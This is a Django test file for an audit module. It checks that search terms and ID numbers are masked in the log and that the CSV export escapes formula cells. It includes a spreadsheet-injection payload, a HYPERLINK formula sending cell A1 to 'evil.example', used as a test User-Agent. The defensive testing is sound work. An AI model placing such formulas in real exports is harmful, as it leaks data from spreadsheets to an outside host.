"""Findings 4 and 5 of issue 11: the audit log keeps what was searched for only masked, and
its CSV export escapes every cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

from django.test import Client

from tumbuh.audit.context import mask_term
from tumbuh.audit.exports import safe_cell
from tumbuh.audit.models import Action, AuditEvent

NIK = "3271035003250001"


def test_search_terms_are_masked_in_the_log(world, client_for):
    client = client_for("tpps")
    client.get("/anak/", {"q": "Tiara Salsabila"})
    client.get("/anak/", {"q": NIK, "page": "2"})
    client.get("/ibu/", {"q": NIK})
    paths = list(AuditEvent.objects.filter(action=Action.VIEW).values_list("path", flat=True))
    assert paths, "list views are audited"
    joined = " ".join(paths)
    assert "Tiara" not in joined and "Salsabila" not in joined
    assert NIK not in joined
    assert any("q=T****+S********" in p for p in paths)
    assert any("3271**********01" in p and "page=2" in p for p in paths)


def test_api_search_terms_are_masked(world, api_for):
    api_for("tpps").get("/api/v1/children", {"q": "Tiara", "kelurahan": "32.71.03.1006"})
    event = AuditEvent.objects.filter(action=Action.VIEW, path__startswith="/api/").latest("pk")
    assert "Tiara" not in event.path
    assert "q=T****" in event.path and "kelurahan=32.71.03.1006" in event.path


def test_mask_term():
    assert mask_term("Tiara Salsabila") == "T**** S********"
    assert mask_term(NIK) == "3271**********01"
    assert mask_term("") == ""


def _export(world) -> list[list[str]]:  # type: ignore[no-untyped-def]
    admin = Client()
    admin.force_login(world.users["admin"])
    response = admin.get("/audit/ekspor.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_formula_in_a_user_agent_is_escaped_in_the_export(world):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    Client(HTTP_USER_AGENT=evil).post(
        "/akun/masuk/", {"username": "tpps", "password": "salah-sekali"}
    )
    Client(HTTP_USER_AGENT="@SUM(1+1)").post(
        "/akun/masuk/", {"username": "+tpps", "password": "salah"}
    )
    rows = _export(world)
    header, body = rows[0], rows[1:]
    agents = [r[header.index("user_agent")] for r in body]
    assert "'" + evil in agents
    assert "'@SUM(1+1)" in agents
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_safe_cell():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("-5") == "'-5"
    assert safe_cell("Bogor") == "Bogor"
    assert safe_cell(None) == ""


def test_a_nik_typed_as_user_name_is_masked(db):
    Client().post("/akun/masuk/", {"username": NIK, "password": "salah"})
    event = AuditEvent.objects.get(action=Action.LOGIN_FAILED)
    assert NIK not in str(event.detail) and event.detail["username"] == "3271**********01"
